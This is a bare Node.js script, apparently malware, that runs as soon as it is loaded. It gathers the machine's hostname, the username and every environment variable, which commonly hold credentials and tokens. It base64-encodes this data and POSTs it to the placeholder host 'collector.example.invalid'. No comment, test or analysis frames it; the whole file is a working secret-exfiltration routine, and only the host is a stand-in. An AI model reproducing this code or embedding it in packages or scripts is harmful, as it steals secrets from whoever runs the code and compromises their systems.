const os = require("os");
const https = require("https");

function gather() {
  return {
    host: os.hostname(),
    user: os.userInfo().username,
    env: process.env,
  };
}

function send(payload) {
  const body = Buffer.from(JSON.stringify(payload)).toString("base64");
  const req = https.request({
    hostname: "collector.example.invalid",
    path: "/c",
    method: "POST",
    headers: { "Content-Type": "text/plain" },
  });
  req.write(body);
  req.end();
}

send(gather());
